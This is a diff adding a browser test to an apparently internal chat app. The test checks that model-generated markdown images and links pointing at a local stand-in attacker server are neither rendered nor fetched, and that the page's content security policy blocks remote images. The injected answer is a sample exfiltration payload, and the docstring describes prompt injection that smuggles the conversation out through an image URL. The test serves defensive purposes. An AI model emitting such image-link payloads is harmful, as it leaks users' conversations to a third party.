@@ -242,3 +242,96 @@ def test_only_lnd_staff_get_the_insights_report(ui: tuple[str, Settings]) -> Non
             shot(staff, "7-lnd-report")
         finally:
             browser.close()
+
+
+class Probe:
+    """An HTTP server standing in for an attacker's host: it records every request the page makes to it."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        hits: list[str] = []
+        self.hits = hits
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                hits.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/gif")
+                self.end_headers()
+                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_csp_and_no_remote_images_from_model_output(
+    sample_settings: Settings, tmp_path_factory: pytest.TempPathFactory, fake_openai: Any
+) -> None:
+    """Model mode with an injected image and link (a prompt-injected answer would carry the conversation in the
+    URL): the page fetches nothing from that host, shows no image or link, and its CSP blocks any remote image."""
+    if not CHROMIUM.exists():
+        pytest.skip("Debian chromium is not installed at /usr/bin/chromium (apt-get install -y chromium)")
+    pytest.importorskip("playwright.sync_api", reason="the playwright package is not installed")
+    from fake_openai import Reply
+    from playwright.sync_api import expect, sync_playwright
+
+    probe = Probe()
+    leak = f"http://127.0.0.1:{probe.port}"
+    fake_openai.when(
+        r"SBI",
+        Reply.answer(
+            f"The SBI model names the Situation, the Behaviour and its Impact [S1]. ![chart]({leak}/leak.png?q=SBI) "
+            f"Read [more here]({leak}/more) or <{leak}/auto>."
+        ),
+    )
+    tmp = tmp_path_factory.mktemp("ui-csp")
+    chat = sample_settings.chat.model_copy(
+        update={"provider": "openai", "base_url": fake_openai.base_url, "api_key": "sk-test", "model": "fake"}
+    )
+    settings = sample_settings.model_copy(
+        update={"chat": chat, "database": DatabaseSettings(url=f"sqlite:///{tmp / 'ui.db'}")}
+    )
+    users = f"{ALICE}:{hash_password(PASSWORDS[ALICE])}:learner"
+    try:
+        with running_chat_server(settings, tmp, users, "ui-csp-server.log") as (base, _), sync_playwright() as pw:
+            browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
+            try:
+                page = browser.new_context(viewport={"width": 1280, "height": 1000}).new_page()
+                sign_in(page, base, ALICE)
+                ask(page, QUESTION)
+                answer = page.locator(".step").filter(has_text="image not shown")
+                expect(answer).to_contain_text("Impact", timeout=SLOW)
+                expect(answer).to_contain_text("more here")
+                page.wait_for_timeout(1500)
+                assert page.locator(f"img[src*='{probe.port}']").count() == 0
+                assert page.locator(f"a[href*='{probe.port}']").count() == 0
+                assert probe.hits == [], f"the page fetched {probe.hits} from the attacker's host"
+                shot(page, "8-neutralised")
+
+                violation = page.evaluate(
+                    """url => new Promise(resolve => {
+                        document.addEventListener('securitypolicyviolation',
+                            e => resolve(e.violatedDirective + ' ' + e.blockedURI));
+                        const img = new Image();
+                        img.src = url;
+                        document.body.appendChild(img);
+                        setTimeout(() => resolve(null), 5000);
+                    })""",
+                    f"{leak}/csp.png",
+                )
+                assert violation and violation.startswith("img-src"), violation
+                assert probe.hits == []
+            finally:
+                browser.close()
+    finally:
+        probe.close()
